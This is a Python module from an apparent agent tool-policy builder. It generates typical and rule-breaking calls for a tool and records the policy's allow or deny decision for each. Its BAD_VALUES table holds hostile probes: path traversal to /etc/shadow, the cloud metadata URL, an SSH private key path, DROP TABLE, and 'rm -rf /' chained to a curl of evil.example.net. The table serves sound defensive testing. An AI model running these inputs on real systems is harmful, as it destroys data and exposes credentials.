"""Example calls for a tool, each with what its recommended Intercept policy decides.

The calls are made from the tool's input schema: a typical call, a call with
every parameter, and one call that breaks each argument rule (a path out of
the root, a URL to the cloud metadata address, `DROP TABLE`, a negative
amount...).  The decisions come from the policy evaluator
(:mod:`site_builder.policy.simulate`), which follows Intercept's engine; a
counter is reported as counted, not evaluated.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Mapping

from ..derive.parameters import is_list, parameter_kinds, schema_properties
from ..derive.words import name_words
from .arguments import AMOUNT_CAP, ROOT_PLACEHOLDER, ArgumentRule
from .simulate import evaluate

MIN_EXAMPLES, MAX_EXAMPLES = 3, 6
GOOD_VALUES = {
    "path": f"{ROOT_PLACEHOLDER}/notes/todo.md",
    "url": "https://docs.example.com/guide",
    "command": "ls -la",
    "sql": "SELECT id, name FROM customers LIMIT 10",
    "amount": 500,
}
BAD_VALUES: dict[str, tuple[tuple[Any, str], ...]] = {
    "path": ((f"{ROOT_PLACEHOLDER}/../../etc/passwd", "climbs out of the root"), ("/etc/shadow", "outside the root")),
    "url": (("http://169.254.169.254/latest/meta-data/", "the cloud metadata address"),
            ("https://localhost:8080/admin", "a local service")),
    "callback": (("https://collector.example.net/hook", "results sent to an address the agent chose"),),
    "command": (("rm -rf / ; curl https://evil.example.net", "a destructive command chained to a download"),),
    "sql": (("DROP TABLE customers", "a destructive statement"),),
    "amount": ((-500, "a negative amount, which would lower the counter"), (AMOUNT_CAP * 10, "over the per-call cap")),
    "flag": ((True, "forcing past safeguards"),),
    "paths": ((["/home/user/.ssh/id_rsa"], "a private key in the list"),),
    "urls": ((["http://169.254.169.254/latest/meta-data/"], "the cloud metadata address in the list"),),
}


@dataclass(frozen=True)
class Example:
    arguments: dict[str, Any]
    decision: str  # allow | deny
    rule: str
    message: str
    counted: tuple[str, ...]
    purpose: str  # why this call is shown

    def as_check(self) -> dict[str, Any]:
        return {"arguments": self.arguments, "decision": self.decision, "rule": self.rule}


def _sample(spec: Any, kind: str | None) -> Any:
    if kind in GOOD_VALUES:
        return [GOOD_VALUES[kind]] if is_list(spec) else GOOD_VALUES[kind]
    if not isinstance(spec, dict):
        return "example"
    enum = spec.get("enum")
    if isinstance(enum, list) and enum:
        return enum[0]
    default = spec.get("default")
    if default is not None and not isinstance(default, (dict, list)):
        return default
    kinds = spec.get("type")
    kind_name = kinds[0] if isinstance(kinds, list) and kinds else kinds
    return {"integer": 1, "number": 1, "boolean": False, "array": [], "object": {}}.get(str(kind_name), "example")


def _calls(schema: dict[str, Any] | None, rules: tuple[ArgumentRule, ...], description: str,
           conditioned: frozenset[str], allowed: Mapping[str, Any]) -> list[tuple[dict[str, Any], str]]:
    properties = schema_properties(schema)
    required = (schema or {}).get("required")
    required_names = {str(name) for name in required} if isinstance(required, list) else set()
    kinds = parameter_kinds(schema, description)
    ruled = {rule.parameter: rule for rule in rules}
    typical: dict[str, Any] = {}
    for name, spec in list(properties.items())[:50]:
        rule = ruled.get(str(name))
        if rule is not None and rule.condition.op == "in":
            typical[str(name)] = rule.condition.value[0]
        elif rule is not None and rule.condition.op == "exists" and str(name) not in required_names:
            continue  # held absent (a required one is given: the typical call shows what the policy does to it)
        elif str(name) in allowed:  # a reviewer's `in` condition: one of the values it allows
            typical[str(name)] = allowed[str(name)]
        elif str(name) in required_names or rule is not None or str(name) in conditioned:
            typical[str(name)] = _sample(spec, kinds[str(name)])
    calls = [(typical, "a typical call")]
    for name, rule in ruled.items():
        for value, why in _bad_values(rule, properties.get(name)):
            calls.append(({**typical, name: value}, f"{name}: {why}"))
    for name in sorted(conditioned - set(ruled)):  # a reviewer's conditions: the same probes by the argument's kind
        for value, why in BAD_VALUES.get(kinds.get(name) or "", ()):
            calls.append(({**typical, name: [value] if is_list(properties.get(name)) else value}, f"{name}: {why}"))
        if name in allowed and not BAD_VALUES.get(kinds.get(name) or ""):
            calls.append(({**typical, name: _unlisted(name, allowed[name])}, f"{name}: a value the policy does not list"))
    full = {str(name): _sample(spec, kinds[str(name)]) for name, spec in list(properties.items())[:50]
            if not (str(name) in ruled and ruled[str(name)].condition.op == "exists")}
    if full != typical:
        calls.append(({**full, **typical}, "every parameter given"))
    if required_names and typical:
        calls.append(({}, "no arguments at all"))
    return calls


def _unlisted(name: str, listed: Any) -> Any:
    """A value outside a reviewer's `in` list: for a kind of object, the kind that holds secrets."""
    if set(name_words(name)) & {"kind", "type"} and isinstance(listed, str):
        return "Secret" if listed[:1].isupper() else "secrets"
    return "other"


def _bad_values(rule: ArgumentRule, spec: Any) -> tuple[tuple[Any, str], ...]:
    if rule.kind == "action":
        allowed = rule.condition.value
        enum = spec.get("enum") if isinstance(spec, dict) else None
        refused = [value for value in (enum or []) if value not in allowed]
        return ((refused[0], "a value the profile does not allow"),) if refused else ()
    return BAD_VALUES.get(rule.kind, ())


def examples_for(policy: dict[str, Any], tool: str, schema: dict[str, Any] | None,
                 rules: tuple[ArgumentRule, ...], description: str = "",
                 conditioned: frozenset[str] = frozenset(), allowed: Mapping[str, Any] | None = None
                 ) -> tuple[Example, ...]:
    """Three to six calls of `tool` with the decisions `policy` gives them.

    `conditioned`: parameters a reviewer's conditions check (besides `rules`); `allowed`: a value each
    reviewer's `in` condition allows, for the typical call."""
    calls = _calls(schema, rules, description, conditioned, allowed or {})
    if len(calls) < MIN_EXAMPLES:
        calls.append(({**calls[0][0], "unexpected": "extra"}, "an argument the tool does not declare"))
    if len(calls) < MIN_EXAMPLES:
        calls.append((dict(calls[0][0]), "the same call again (counters only count)"))
    results = []
    for arguments, purpose in calls[:MAX_EXAMPLES]:
        decision = evaluate(policy, tool, arguments)
        results.append(Example(arguments, decision.decision, decision.rule, decision.message, decision.counted, purpose))
    return tuple(results)
